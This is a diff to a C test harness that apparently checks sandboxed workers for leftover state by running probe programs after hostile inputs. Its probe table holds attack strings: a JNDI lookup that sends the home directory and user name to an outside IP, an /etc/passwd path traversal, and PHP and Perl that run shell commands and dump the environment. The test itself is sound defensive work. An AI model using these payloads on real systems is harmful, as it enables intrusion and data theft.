@@ -23,6 +23,9 @@ static const struct { enum language language; const char *code; } probes[] = {
 	{ LANGUAGE_SHELL, "awk 'BEGIN { print sqrt(2), sin(1), exp(1), 1/3; srand(); print rand() }'; ulimit -a; trap; umask; cat /proc/self/status" },
 	{ LANGUAGE_JNDI, "${jndi:ldap://203.0.113.9/${env:HOME}/${sys:user.name}}" },
 	{ LANGUAGE_PATH, "../../../../etc/passwd" },
+	{ LANGUAGE_PHP, "<?php echo md5('a'), PHP_OS, getcwd(), memory_get_usage(), rand(); print_r($_SERVER); system('id; ls -la /tmp');" },
+	{ LANGUAGE_PERL, "print 6*7, $$, join(',', sort keys %ENV), rand(), `ls /tmp`, sprintf('%.20g', 1/3)" },
+	{ LANGUAGE_PYTHON, "import os,sys\nprint(os.getpid(), os.listdir('/tmp'), sys.path, hash('a'), 1/3)" },
 	{ LANGUAGE_ELF, NULL }, /* what a processor was left as: probe_program */
 };
 static const char *const profiles[] = { "busybox", "container", "debian", "rhel" };
@@ -103,6 +106,15 @@ static int ask_probe(unsigned which, unsigned profile, struct answer *ret)
 	return ask(LANGUAGE_ELF, bytes_of(program.code, program.len), profiles[profile], PROBE_ID, ret);
 }
 
+/* Interpreters are slow to warm up in a worker that is new: their turn comes less often. */
+static unsigned likely_probe(uint64_t *state)
+{
+	unsigned which = (unsigned)chance_below(state, PROBES);
+
+	return probes[which].language == LANGUAGE_PYTHON || probes[which].language == LANGUAGE_PHP || probes[which].language == LANGUAGE_PERL ?
+	    (unsigned)chance_below(state, PROBES) : which;
+}
+
 /* 1: the answer differs from a fresh worker's, or there is none. */
 static int probe(unsigned which, unsigned profile, const char *after)
 {
@@ -115,7 +127,9 @@ static int probe(unsigned which, unsigned profile, const char *after)
 		return 1;
 	}
 	got = told(a.report);
-	differs = a.report->stopped_by != STOPPED_EXIT || (want->left > 0 && !bytes_equal(got, *want));
+	/* what a profile has no program for is told alike too */
+	differs = a.report->stopped_by == STOPPED_DIED || a.report->stopped_by == STOPPED_WATCHDOG ||
+	    (want->left > 0 && !bytes_equal(got, *want));
 	if (differs)
 		fprintf(stderr, "DIFFERS (%s): probe %u in %s, after: %s\n", stopped_by_name(a.report->stopped_by), which,
 		        profiles[profile], after);
@@ -224,7 +238,7 @@ int main(int argc, char **argv)
 
 		hostile_make(&state, &h);
 		failures += hostile(&h, profiles[chance_below(&state, PROFILES)]);
-		if (probe((unsigned)chance_below(&state, PROBES), (unsigned)chance_below(&state, PROFILES), h.name) != 0) {
+		if (probe(likely_probe(&state), (unsigned)chance_below(&state, PROFILES), h.name) != 0) {
 			fprintf(stderr, "  again alone: seed %llu\n", (unsigned long long)begun);
 			failures++;
 		}
